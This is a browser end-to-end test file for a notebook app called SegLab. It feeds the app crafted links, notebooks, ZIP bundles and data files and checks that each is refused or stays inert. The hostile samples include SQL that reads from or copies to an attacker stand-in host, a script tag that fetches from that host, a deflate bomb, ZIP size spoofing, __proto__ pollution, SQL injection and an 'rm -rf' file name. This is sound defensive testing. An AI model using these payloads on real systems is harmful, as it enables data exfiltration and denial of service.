import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { utils, write } from '@e965/xlsx';
import { deflateSync, strToU8, unzipSync, zipSync } from 'fflate';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeBundle } from '../../src/io/bundle-file';
import { declareZipEntry } from '../support/zip-declare';
import { openSession, type Session } from './browser';
import { tableRow, waitForNotebookRun, waitIdle } from './helpers';
import { serveDist, type StaticServer } from './static-server';

/**
 * Hostile inputs: links, notebook files, bundles and data files crafted to freeze the page, break
 * the notebook, reach another origin or run without consent. For each: a named error (or an
 * inert result), the notebook open before intact, no main-thread task over 100 ms, and no
 * request to any other origin (a listener on another port stands in for an attacker's server).
 */

let server: StaticServer;
let s: Session;
/** Requests the attacker's stand-in received. */
const reached: string[] = [];
// Started before the cases are listed, so they can point at it.
const listener: Server = createServer((req, res) => {
  reached.push(`${req.method} ${req.url}`);
  res.end('x');
});
await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
const EVIL = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;

/** Main-thread tasks over 50 ms (the browser's long tasks), from the page's start. */
function watchLongTasks(): void {
  const w = window as unknown as { longTasks: [number, number][] };
  w.longTasks = [];
  new PerformanceObserver((list) => {
    for (const e of list.getEntries()) w.longTasks.push([e.startTime, e.duration]);
  }).observe({ type: 'longtask', buffered: true });
}

beforeAll(async () => {
  server = await serveDist('dist', { base: '/apps/seglab/' });
  s = await openSession();
  await s.context.addInitScript(watchLongTasks);
});
afterAll(async () => {
  await s?.close();
  await server?.close();
  await new Promise((resolve) => listener?.close(resolve));
});

// ---- Crafting inputs -----------------------------------------------------------------------

type Json = Record<string, unknown>;
const md = (id: string, source = '# Note') => ({ id, kind: 'markdown', source });
const sql = (id: string, source: string) => ({ id, kind: 'sql', source });
const file = (extra: Json = {}) => ({
  format: 'seglab-notebook',
  version: 1,
  title: 'Hostile',
  cells: [md('a')],
  tables: [],
  mappings: [],
  asOf: '',
  ...extra,
});
const cells = (n: number) => Array.from({ length: n }, (_, i) => md(`m${i}`, `cell ${i}`));
const mdTable = (rows: number, cols: number) =>
  Array.from({ length: rows }, () => `|${' x |'.repeat(cols)}`).join('\n');
const tableEntry = (table: string, fileName = 'x.csv') => ({
  table,
  fileName,
  origin: 'file',
  columns: ['a'],
});

const base64url = (bytes: Uint8Array) =>
  Buffer.from(bytes).toString('base64').replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
/** A `#nb=1.` fragment holding `text` (a notebook's JSON, or anything else). */
const link = (text: string | Json) =>
  `#nb=1.${base64url(deflateSync(typeof text === 'string' ? strToU8(text) : strToU8(JSON.stringify(text))))}`;
const linkBytes = (bytes: Uint8Array) => `#nb=1.${base64url(deflateSync(bytes))}`;

const manifest = (tables: Json[] = [], extra: Json = {}) =>
  JSON.stringify({ format: 'seglab-bundle', version: 1, createdWith: 'x', tables, ...extra });
const zip = (entries: Record<string, string | Uint8Array>) =>
  zipSync(
    Object.fromEntries(
      Object.entries(entries).map(([k, v]) => [k, typeof v === 'string' ? strToU8(v) : v]),
    ),
  );
/** A bundle whose manifest lists one table `name` (its Parquet is not Parquet). */
const bundleNamed = (name: string) =>
  zip({
    'manifest.json': manifest([{ table: name, file: 'tables/t.parquet', rows: 1 }]),
    'notebook.json': JSON.stringify(file({ title: 'Bundle' })),
    'tables/t.parquet': 'not parquet',
  });
const goodBundle = (title: string) =>
  writeBundle({
    notebook: { version: 1, title, cells: [md('a') as never], tables: [], mappings: [], asOf: '' },
    tables: [],
    createdWith: 'SegLab test',
  });
const GIB3 = 3 * 1024 ** 3;

function xlsx(aoa: unknown[][]): Uint8Array {
  const book = utils.book_new();
  utils.book_append_sheet(book, utils.aoa_to_sheet(aoa), 'Data');
  return new Uint8Array(write(book, { type: 'array', bookType: 'xlsx', compression: true }));
}
const BAD = path.join(__dirname, '../fixtures/bad');
const fixture = (name: string) => new Uint8Array(readFileSync(path.join(BAD, name)));
const text = (t: string) => strToU8(t);
const wideHeader = (n: number) =>
  `${Array.from({ length: n }, (_, i) => `c${i + 1}`).join(',')}\n${'1,'.repeat(n - 1)}1\n`;

// ---- Observing the page --------------------------------------------------------------------

interface Snapshot {
  title: string;
  cells: number;
  tables: string[];
}

async function snapshot(page: Page): Promise<Snapshot> {
  // Read in one go: a table leaving the list between finding its row and reading it made a
  // row-by-row read wait 30 s for a row that was gone.
  const tables = await page.locator('[data-testid=table-list] li[data-table]').evaluateAll((rows) =>
    rows.map((r) => {
      const count = /[\d,]+ rows?/.exec((r as HTMLElement).innerText)?.[0] ?? '';
      return `${r.getAttribute('data-table')}: ${count}`;
    }),
  );
  return {
    title: await page.getByLabel('Notebook title').inputValue(),
    cells: await page.locator('[data-testid=cell]').count(),
    tables,
  };
}

const now = (page: Page) => page.evaluate(() => performance.now());
/** Main-thread tasks (ms) that started after `since`. */
const longTasksSince = (page: Page, since: number) =>
  page.evaluate(
    (t) =>
      (window as unknown as { longTasks: [number, number][] }).longTasks
        .filter(([start]) => start >= t)
        .map(([, duration]) => Math.round(duration)),
    since,
  );

async function dismissNotices(page: Page): Promise<void> {
  const buttons = page.locator('.notices button[aria-label=Dismiss]');
  while ((await buttons.count()) > 0) await buttons.first().click();
}

/** Error notices' texts, waiting for one to appear. */
async function errorNotice(page: Page): Promise<string> {
  const notice = page.locator('[data-testid=notice-error]').first();
  await notice.waitFor({ timeout: 20_000 });
  return notice.innerText();
}

/** Every request left the app's origin? Page, workers (in the context's events) and listener. */
function checkNoOtherOrigin(page: Page): void {
  const origin = new URL(server.url).origin;
  const foreign = s.requests.filter(
    (u) => !u.startsWith(origin) && !u.startsWith('data:') && !u.startsWith('blob:'),
  );
  expect(foreign).toEqual([]);
  const workers = page.workers().map((w) => w.url());
  expect(workers.filter((u) => !u.startsWith(origin) && !u.startsWith('blob:'))).toEqual([]);
  expect(reached).toEqual([]);
}

type Open = (page: Page) => Promise<void>;
const openLink =
  (fragment: string): Open =>
  (page) =>
    page.evaluate((h) => {
      location.hash = h;
    }, fragment);
/**
 * A file picked in the page's input. Written to disk first: Playwright hands a path to the
 * browser as a user's pick would, where a buffer would be decoded by script in the page (and
 * show as the page's own long task).
 */
const pick =
  (testId: string, name: string, bytes: Uint8Array): Open =>
  async (page) => {
    const dir = mkdtempSync(path.join(tmpdir(), 'seglab-hostile-'));
    const at = path.join(dir, name);
    writeFileSync(at, bytes);
    await page.getByTestId(testId).setInputFiles(at);
  };
const openNotebookFile = (name: string, bytes: Uint8Array) => pick('notebook-input', name, bytes);
const openBundle = (name: string, bytes: Uint8Array) => pick('bundle-input', name, bytes);
const openData = (name: string, bytes: Uint8Array) => pick('file-input', name, bytes);

/** Runs `open`, then `settle`; checks the main thread and other origins around it. */
async function runCase(page: Page, open: Open, settle: () => Promise<void>): Promise<void> {
  await dismissNotices(page);
  const since = await now(page);
  await open(page);
  await settle();
  // A frame after the outcome shows, so the work it caused has been measured.
  await page.evaluate(() => new Promise((r) => requestAnimationFrame(() => setTimeout(r, 50))));
  expect(Math.max(0, ...(await longTasksSince(page, since)))).toBeLessThanOrEqual(100);
  checkNoOtherOrigin(page);
}

// ---- Cases ---------------------------------------------------------------------------------

/** Refused with a named error; the open notebook and its tables stay as they were. */
const REFUSED: [string, Open, RegExp][] = [
  // Links
  [
    'link: duplicate cell ids',
    openLink(link(file({ cells: [md('a'), md('a')] }))),
    /damaged.*cell 2 has the id of an earlier cell/,
  ],
  [
    'link: unknown preset',
    openLink(
      link(file({ cells: [{ id: 'p', kind: 'preset', presetId: 'nope', params: {}, name: 'x' }] })),
    ),
    /unknown segmentation/,
  ],
  [
    'link: 1,000 cells',
    openLink(link(file({ cells: cells(1000) }))),
    /too large to open \(1000 cells\)/,
  ],
  [
    'link: 301 cells',
    openLink(link(file({ cells: cells(301) }))),
    /too large to open \(301 cells\)/,
  ],
  [
    'link: 4000×450 markdown table',
    openLink(link(file({ cells: [md('t', mdTable(4000, 450))] }))),
    /too large to open/,
  ],
  [
    'link: 600-row markdown table',
    openLink(link(file({ cells: [md('t', mdTable(600, 3))] }))),
    /table of 600 rows/,
  ],
  [
    'link: 50-column markdown table',
    openLink(link(file({ cells: [md('t', mdTable(3, 50))] }))),
    /3 rows and 50 columns/,
  ],
  [
    'link: two markdown tables of 600 cells',
    openLink(link(file({ cells: [md('t', `${mdTable(60, 10)}\n\n${mdTable(60, 10)}`)] }))),
    /tables of 1200 cells/,
  ],
  [
    'link: 200,000-character SQL cell',
    openLink(link(file({ cells: [sql('q', `SELECT ${'1+'.repeat(100_000)}1`)] }))),
    /200008 characters/,
  ],
  [
    'link: __proto__ at the top',
    openLink(link('{"format":"seglab-notebook","version":1,"cells":[],"__proto__":{"cells":[1]}}')),
    /"__proto__" key/,
  ],
  [
    'link: __proto__ in preset params',
    openLink(
      link(
        '{"format":"seglab-notebook","version":1,"cells":[{"id":"p","kind":"preset","presetId":"rfm","name":"r","params":{"__proto__":{"x":1}}}]}',
      ),
    ),
    /"__proto__" key/,
  ],
  [
    'link: __proto__ in a table',
    openLink(
      link(
        '{"format":"seglab-notebook","version":1,"cells":[],"tables":[{"table":"t","fileName":"t.csv","__proto__":{"origin":"sample"}}]}',
      ),
    ),
    /"__proto__" key/,
  ],
  ['link: not JSON', openLink(link('SELECT * FROM orders')), /damaged or incomplete/],
  [
    'link: not deflate',
    openLink(`#nb=1.${base64url(text('plain text, not deflated'))}`),
    /the link was cut or changed/,
  ],
  [
    'link: characters outside base64url',
    openLink('#nb=1.@@@<script>'),
    /the link was cut or changed/,
  ],
  ['link: empty body', openLink('#nb=1.'), /damaged or incomplete/],
  [
    'link: newer link version',
    openLink('#nb=9.AAAA'),
    /newer version of SegLab \(link version 9\)/,
  ],
  [
    'link: newer notebook version',
    openLink(link(file({ version: 99 }))),
    /newer version of SegLab \(version 99\)/,
  ],
  ['link: no format', openLink(link({ cells: [] })), /no "format": "seglab-notebook"/],
  ['link: cells not a list', openLink(link(file({ cells: 'all' }))), /no cell list/],
  [
    'link: unknown cell kind',
    openLink(link(file({ cells: [{ id: 'x', kind: 'python', source: 'x' }] }))),
    /unknown kind python/,
  ],
  [
    'link: preset without params',
    openLink(link(file({ cells: [{ id: 'p', kind: 'preset', presetId: 'rfm', name: 'r' }] }))),
    /preset without its settings/,
  ],
  [
    'link: deflate bomb',
    openLink(linkBytes(new Uint8Array(50_000_000).fill(32))),
    /too large to open \(unpacks to over/,
  ],
  [
    'link: invalid UTF-8',
    openLink(linkBytes(new Uint8Array([0x7b, 0xff, 0xfe, 0x7d]))),
    /the link was cut or changed/,
  ],
  [
    'link: table named like a result',
    openLink(link(file({ tables: [tableEntry('__seglab_cell_a')] }))),
    /"__seglab_cell_a" has a name SegLab or DuckDB uses/,
  ],
  [
    'link: table named customer_features',
    openLink(link(file({ tables: [tableEntry('customer_features')] }))),
    /"customer_features"/,
  ],
  [
    'link: 5,000-character table name',
    openLink(link(file({ tables: [tableEntry('t'.repeat(5000))] }))),
    /5000 characters \(at most 63\)/,
  ],
  [
    'link: empty table name',
    openLink(link(file({ tables: [tableEntry('')] }))),
    /a table has an empty name/,
  ],
  [
    'link: 101 tables',
    openLink(link(file({ tables: Array.from({ length: 101 }, (_, i) => tableEntry(`t${i}`)) }))),
    /101 tables/,
  ],
  // Notebook files
  [
    'notebook: not JSON',
    openNotebookFile('x.seglab.json', text('id,amount\n1,2\n')),
    /Could not open x\.seglab\.json: it is not a JSON file/,
  ],
  [
    'notebook: empty file',
    openNotebookFile('empty.seglab.json', new Uint8Array()),
    /Could not open empty\.seglab\.json: it is not a JSON file/,
  ],
  [
    'notebook: NUL bytes',
    openNotebookFile('nul.seglab.json', new Uint8Array(64)),
    /Could not open nul\.seglab\.json: it is not a JSON file/,
  ],
  [
    'notebook: invalid UTF-8',
    openNotebookFile('bytes.seglab.json', new Uint8Array([0xff, 0xfe, 0x00, 0x7b])),
    /it is not a JSON file/,
  ],
  [
    'notebook: a JSON list',
    openNotebookFile('list.seglab.json', text('[1,2,3]')),
    /not a SegLab notebook/,
  ],
  [
    'notebook: __proto__',
    openNotebookFile(
      'proto.seglab.json',
      text('{"format":"seglab-notebook","version":1,"cells":[],"__proto__":{"review":false}}'),
    ),
    /"__proto__" key/,
  ],
  [
    'notebook: 1,000 cells',
    openNotebookFile('many.seglab.json', text(JSON.stringify(file({ cells: cells(1000) })))),
    /larger than a notebook may be \(1000 cells\)/,
  ],
  [
    'notebook: duplicate ids',
    openNotebookFile('dup.seglab.json', text(JSON.stringify(file({ cells: [md('a'), md('a')] })))),
    /id of an earlier cell/,
  ],
  [
    'notebook: unknown preset',
    openNotebookFile(
      'preset.seglab.json',
      text(
        JSON.stringify(
          file({ cells: [{ id: 'p', kind: 'preset', presetId: 'evil', params: {}, name: 'x' }] }),
        ),
      ),
    ),
    /unknown segmentation/,
  ],
  [
    'notebook: 5 MB',
    openNotebookFile(
      'big.seglab.json',
      text(JSON.stringify(file({ title: 'x'.repeat(5_000_000) }))),
    ),
    /larger than a notebook may be/,
  ],
  [
    'notebook: reserved table name',
    openNotebookFile(
      'reserved.seglab.json',
      text(JSON.stringify(file({ tables: [tableEntry('duckdb_tables')] }))),
    ),
    /"duckdb_tables"/,
  ],
  // Bundles
  [
    'bundle: a CSV renamed',
    openBundle('orders.seglab', text('id,amount\n1,2\n')),
    /not a SegLab bundle/,
  ],
  ['bundle: empty file', openBundle('empty.seglab', new Uint8Array()), /not a SegLab bundle/],
  [
    'bundle: ZIP without manifest',
    openBundle('nomanifest.seglab', zip({ 'data.csv': 'a\n1\n' })),
    /not a SegLab bundle/,
  ],
  [
    'bundle: wrong format',
    openBundle('format.seglab', zip({ 'manifest.json': '{"format":"other"}' })),
    /not a SegLab bundle/,
  ],
  [
    'bundle: newer version',
    openBundle(
      'newer.seglab',
      zip({ 'manifest.json': manifest([], { version: 7, createdWith: 'SegLab 9' }) }),
    ),
    /newer version of SegLab/,
  ],
  [
    'bundle: table declaring 3 GiB',
    openBundle('bomb.seglab', declareZipEntry(bundleNamed('big'), 'tables/t.parquet', GIB3)),
    /too big to open \(its tables declare 3\.0 GB/,
  ],
  [
    'bundle: manifest declaring 50 MB',
    openBundle(
      'manifest.seglab',
      declareZipEntry(bundleNamed('t'), 'manifest.json', 50 * 1024 ** 2),
    ),
    /manifest\.json declares 50 MB/,
  ],
  [
    'bundle: notebook declaring 3 GiB',
    openBundle('nb.seglab', declareZipEntry(bundleNamed('t'), 'notebook.json', GIB3)),
    /notebook\.json declares 3\.0 GB/,
  ],
  [
    'bundle: empty table name',
    openBundle('noname.seglab', bundleNamed('')),
    /a table has an empty name/,
  ],
  [
    'bundle: result-table name',
    openBundle('inner.seglab', bundleNamed('__seglab_cell_c0')),
    /"__seglab_cell_c0" has a name SegLab or DuckDB uses/,
  ],
  [
    'bundle: customer_features',
    openBundle('features.seglab', bundleNamed('customer_features')),
    /"customer_features"/,
  ],
  [
    'bundle: 5,000-character name',
    openBundle('long.seglab', bundleNamed('n'.repeat(5000))),
    /5000 characters/,
  ],
  ['bundle: raw-table name', openBundle('raw.seglab', bundleNamed('orders__raw')), /"orders__raw"/],
  [
    'bundle: manifest __proto__',
    openBundle(
      'proto.seglab',
      zip({ 'manifest.json': '{"format":"seglab-bundle","version":1,"tables":[],"__proto__":{}}' }),
    ),
    /manifest\.json has a "__proto__" key/,
  ],
  [
    'bundle: notebook __proto__',
    openBundle(
      'nbproto.seglab',
      zip({
        'manifest.json': manifest(),
        'notebook.json': '{"format":"seglab-notebook","version":1,"cells":[],"__proto__":{}}',
      }),
    ),
    /"__proto__" key/,
  ],
  [
    'bundle: notebook with duplicate ids',
    openBundle(
      'dup.seglab',
      zip({
        'manifest.json': manifest(),
        'notebook.json': JSON.stringify(file({ cells: [md('a'), md('a')] })),
      }),
    ),
    /id of an earlier cell/,
  ],
  [
    'bundle: listed table missing',
    openBundle(
      'missing.seglab',
      zip({
        'manifest.json': manifest([{ table: 't', file: 'tables/t.parquet' }]),
        'notebook.json': JSON.stringify(file()),
      }),
    ),
    /tables\/t\.parquet is missing/,
  ],
  [
    'bundle: truncated',
    openBundle('cut.seglab', goodBundle('Cut').subarray(0, 100)),
    /not a SegLab bundle/,
  ],
];

/** Data files dropped into a notebook holding one table: refused by name, or loaded inertly. */
const DATA: [string, string, Uint8Array, RegExp | string][] = [
  ['empty CSV', 'empty.csv', new Uint8Array(), /"empty\.csv" is empty/],
  ['200,000 columns', 'wide.csv', text(wideHeader(200_000)), /"wide\.csv" has 200000 columns/],
  ['10,000 columns', 'wide-10000-cols.csv', fixture('wide-10000-cols.csv'), /has 10000 columns/],
  ['NUL bytes', 'nul.csv', new Uint8Array(4096), /"nul\.csv" is not a text file/],
  ['binary junk', 'binary-junk.csv', fixture('binary-junk.csv'), /not a text file/],
  ['HTML page', 'html-page.csv', fixture('html-page.csv'), /is a web page \(HTML\)/],
  ['PDF renamed', 'pdf-renamed.csv', fixture('pdf-renamed.csv'), /PDF/],
  ['unclosed quote', 'unclosed-quote.csv', fixture('unclosed-quote.csv'), /line 4: a quote/],
  [
    'ZIP renamed .xlsx',
    'zip-renamed.xlsx',
    fixture('zip-renamed.xlsx'),
    /is a ZIP archive of 2 file\(s\), not an Excel workbook/,
  ],
  [
    'workbook declaring 300 MB of sheet',
    'cells.xlsx',
    declareZipEntry(xlsx([['a'], [1]]), 'xl/worksheets/sheet1.xml', 300 * 1024 ** 2),
    /"cells\.xlsx" \([\d.]+ KB\) unpacks to 300 MB of sheet data/,
  ],
  [
    'whitespace-only workbook',
    'blank.xlsx',
    xlsx([
      [' ', '  '],
      ['\t', ' '],
    ]),
    /sheet "Data", has no values/,
  ],
  ['Parquet that is not', 'fake.parquet', text('PAR1 but not really'), /fake\.parquet/],
  ['invalid JSON', 'bad.json', text('[{"a":1},'), /bad\.json/],
  [
    'formula-looking values',
    'formulas.csv',
    text(`name,note\n=HYPERLINK("${EVIL}/f","x"),+1\n@SUM(A1),-2\n＝1+1,\u00a0=1\n`),
    'formulas',
  ],
  ['SQL in column names', 'names.csv', text('"a""; DROP TABLE keep; --",b\n1,2\n'), 'names'],
  [
    'invalid UTF-8',
    'latin.csv',
    new Uint8Array([...strToU8('name,v\n'), 0x63, 0x61, 0x66, 0xe9, 0x2c, 0x31, 0x0a]),
    'latin',
  ],
  ['a file named like a result table', '__seglab_cell_c0.csv', text('v\n1\n'), 'seglab_cell_c0'],
  [
    'a file named customer_features',
    'customer_features.csv',
    text('v\n1\n'),
    't_customer_features',
  ],
  ['shell text in the file name', 'passwd; rm -rf ~.csv', text('v\n1\n'), 'passwd_rm_rf'],
  [
    'JSON with __proto__ keys',
    'proto.json',
    text('[{"__proto__":{"x":1},"v":1},{"v":2}]'),
    /proto/,
  ],
];

/** Opened beside the notebook for review; run, they stay inside the sandbox. */
const ACCEPTED: [
  string,
  Open,
  'sql-error' | 'markdown' | 'markdown-table' | 'long-text' | 'opens' | 'runs' | RegExp,
][] = [
  [
    'link: the largest markdown table allowed',
    openLink(
      link(
        file({
          title: 'M1',
          cells: [md('t', `|${' h |'.repeat(40)}\n|${' - |'.repeat(40)}\n${mdTable(23, 40)}`)],
        }),
      ),
    ),
    'markdown-table',
  ],
  ['link: 300 cells', openLink(link(file({ title: 'M2', cells: cells(300) }))), 'opens'],
  [
    'link: 39 markdown cells of 100,000 characters',
    openLink(
      link(
        file({
          title: 'M3',
          cells: Array.from({ length: 39 }, (_, i) =>
            md(`b${i}`, `word${i} `.repeat(14_000).slice(0, 100_000)),
          ),
        }),
      ),
    ),
    'long-text',
  ],
  [
    'link: read_csv from a URL',
    openLink(
      link(file({ title: 'L1', cells: [sql('q', `SELECT * FROM read_csv('${EVIL}/a.csv')`)] })),
    ),
    'sql-error',
  ],
  [
    'link: a URL as a table',
    openLink(link(file({ title: 'L2', cells: [sql('q', `SELECT * FROM '${EVIL}/b.parquet'`)] }))),
    'sql-error',
  ],
  [
    'link: read_parquet from a URL',
    openLink(
      link(
        file({ title: 'L3', cells: [sql('q', `SELECT * FROM read_parquet('${EVIL}/c.parquet')`)] }),
      ),
    ),
    'sql-error',
  ],
  [
    'link: ATTACH a URL',
    openLink(link(file({ title: 'L4', cells: [sql('q', `ATTACH '${EVIL}/d.duckdb' AS d`)] }))),
    'sql-error',
  ],
  [
    'link: INSTALL from a URL',
    openLink(link(file({ title: 'L5', cells: [sql('q', `INSTALL httpfs FROM '${EVIL}/ext'`)] }))),
    'runs',
  ],
  [
    'link: LOAD an extension URL',
    openLink(
      link(file({ title: 'L6', cells: [sql('q', `LOAD '${EVIL}/x.duckdb_extension.wasm'`)] })),
    ),
    'sql-error',
  ],
  [
    'link: COPY to a URL',
    openLink(
      link(file({ title: 'L7', cells: [sql('q', `COPY (SELECT 42 AS x) TO '${EVIL}/out.csv'`)] })),
    ),
    'sql-error',
  ],
  [
    'link: re-enable external access',
    openLink(link(file({ title: 'L8', cells: [sql('q', `SET enable_external_access = true`)] }))),
    'sql-error',
  ],
  [
    'link: read_json from a URL',
    openLink(
      link(file({ title: 'L9', cells: [sql('q', `SELECT * FROM read_json('${EVIL}/e.json')`)] })),
    ),
    'sql-error',
  ],
  [
    'link: markdown image, link and HTML',
    openLink(
      link(
        file({
          title: 'L10',
          cells: [
            md(
              'm',
              `![pixel](${EVIL}/pixel.png) [site](${EVIL}/go) <img src="${EVIL}/raw.png"> <script>fetch('${EVIL}/s')</script>`,
            ),
          ],
        }),
      ),
    ),
    'markdown',
  ],
  [
    'link: a URL as the file name',
    openLink(link(file({ title: 'L11', tables: [tableEntry('orders2', `${EVIL}/orders.csv`)] }))),
    'opens',
  ],
  [
    'link: SQL in a table name',
    openLink(link(file({ title: 'L12', tables: [tableEntry('x"; DROP TABLE orders; --')] }))),
    'opens',
  ],
  [
    'notebook: read_csv from a URL',
    openNotebookFile(
      'url.seglab.json',
      text(
        JSON.stringify(
          file({ title: 'N1', cells: [sql('q', `SELECT * FROM read_csv('${EVIL}/n.csv')`)] }),
        ),
      ),
    ),
    'sql-error',
  ],
  [
    'bundle: unused entry declaring 3 GiB',
    openBundle(
      'unused.seglab',
      declareZipEntry(
        zip({ ...unzipSync(goodBundle('B1')), 'junk.bin': new Uint8Array(1000) }),
        'junk.bin',
        GIB3,
        99,
      ),
    ),
    'opens',
  ],
  [
    'bundle: unused 100 MB of zeros',
    openBundle(
      'zeros.seglab',
      zip({ ...unzipSync(goodBundle('B2')), 'zeros.bin': new Uint8Array(100 * 1024 ** 2) }),
    ),
    'opens',
  ],
  ['bundle: a table that is not Parquet', openBundle('fake.seglab', bundleNamed('fake')), /fake/],
];

describe('hostile inputs, in Chromium', () => {
  let page: Page;
  let before: Snapshot;

  it('starts on the example notebook', async () => {
    page = s.page;
    await page.goto(server.url);
    await waitForNotebookRun(page);
    await waitIdle(page);
    // The example's results keep arriving after its cells say they are done: wait for quiet.
    before = await snapshot(page);
    for (;;) {
      await page.waitForTimeout(1500);
      const again = await snapshot(page);
      if (JSON.stringify(again) === JSON.stringify(before)) break;
      before = again;
    }
    expect(before.tables.length).toBeGreaterThan(0);
    expect(before.cells).toBeGreaterThan(0);
  });

  it.each(REFUSED)('%s: a named error, the notebook intact', async (_name, open, message) => {
    await runCase(page, open, async () => {
      expect(await errorNotice(page)).toMatch(message);
    });
    expect(await snapshot(page)).toEqual(before);
    expect(await page.getByTestId('review-banner').count()).toBe(0);
  });

  it('leaves the example for an empty notebook, before the cases that open notebooks', async () => {
    // Leaving the example takes its charts down: app work, not a hostile input's.
    await page.getByTestId('new-notebook').click();
    await page.getByTestId('empty-notebook').waitFor();
  });

  it.each(ACCEPTED)(
    '%s: opened for review, inert when run, the previous kept',
    async (name, open, outcome) => {
      const previous = await snapshot(page);
      // A notebook without cells is not kept (the tables listed may be left from the example).
      const kept = previous.cells > 0;
      await runCase(page, open, async () => {
        // The user's own notebook file runs at once; links and bundles wait for the user.
        const review = !name.startsWith('notebook:');
        if (review) await page.getByTestId('review-banner').waitFor({ timeout: 20_000 });
        if (kept) {
          await expect
            .poll(() => page.locator('[data-testid=notice-info]').allInnerTexts())
            .toContainEqual(
              expect.stringContaining(`kept in this browser as “${previous.title} · `),
            );
        }
        if (outcome instanceof RegExp) expect(await errorNotice(page)).toMatch(outcome);
        if (review) await page.getByTestId('approve-run').click();
        await waitIdle(page);
        if (outcome === 'sql-error') {
          await page.getByTestId('cell-error').first().waitFor({ timeout: 20_000 });
        }
        if (outcome === 'markdown-table') {
          const table = page.getByTestId('markdown').locator('table');
          await table.waitFor({ timeout: 20_000 });
          expect(await table.locator('tr').count()).toBe(24);
        }
        if (outcome === 'markdown') {
          const prose = page.getByTestId('markdown').first();
          expect(await prose.innerText()).toContain('[pixel]');
          expect(await prose.locator('img, script').count()).toBe(0);
          const rels = await prose
            .locator('a')
            .evaluateAll((links) => links.map((a) => a.getAttribute('rel')));
          expect(rels.length).toBeGreaterThan(0);
          expect(new Set(rels)).toEqual(new Set(['noopener noreferrer']));
        }
      });
      expect(await page.getByTestId('review-banner').count()).toBe(0);
      if (outcome === 'long-text') {
        // Each text shows its first 20,000 characters until asked for all of it.
        const first = page.getByTestId('markdown').first();
        const length = async () => (await first.textContent())?.trim().length ?? 0;
        expect(await length()).toBeLessThanOrEqual(20_000);
        expect(await length()).toBeGreaterThan(19_000);
        await page.getByTestId('markdown-show-all').first().click();
        const whole = `word0 `.repeat(14_000).slice(0, 100_000).trim();
        await expect.poll(length).toBe(whole.length);
      }
    },
  );

  it('keeps every notebook opened before in this browser', async () => {
    await page.getByTestId('local-notebooks').click();
    const names = await page.locator('[data-testid=saved-notebooks] li strong').allInnerTexts();
    for (const title of ['L1', 'L5', 'L10', 'L12', 'N1', 'B1', 'B2']) {
      expect(
        names.some((n) => n.startsWith(`${title} · `)),
        title,
      ).toBe(true);
    }
    await page.keyboard.press('Escape');
  });
});

describe('hostile data files, in Chromium', () => {
  let page: Page;
  let before: Snapshot;

  it('starts a new notebook holding one table', async () => {
    page = s.page;
    await page.getByTestId('new-notebook').click();
    await openData('keep.csv', text('id,v\n1,a\n2,b\n3,c\n'))(page);
    await expect.poll(() => tableRow(page, 'keep').innerText()).toContain('3 rows');
    before = await snapshot(page);
  });

  it.each(DATA)(
    '%s: a named error or an inert table, the others intact',
    async (_name, name, bytes, outcome) => {
      await runCase(page, openData(name, bytes), async () => {
        if (outcome instanceof RegExp) expect(await errorNotice(page)).toMatch(outcome);
        else await expect.poll(() => tableRow(page, outcome).count()).toBe(1);
      });
      const after = await snapshot(page);
      expect({ title: after.title, cells: after.cells }).toEqual({
        title: before.title,
        cells: before.cells,
      });
      expect(after.tables).toEqual(expect.arrayContaining(before.tables));
    },
  );
});
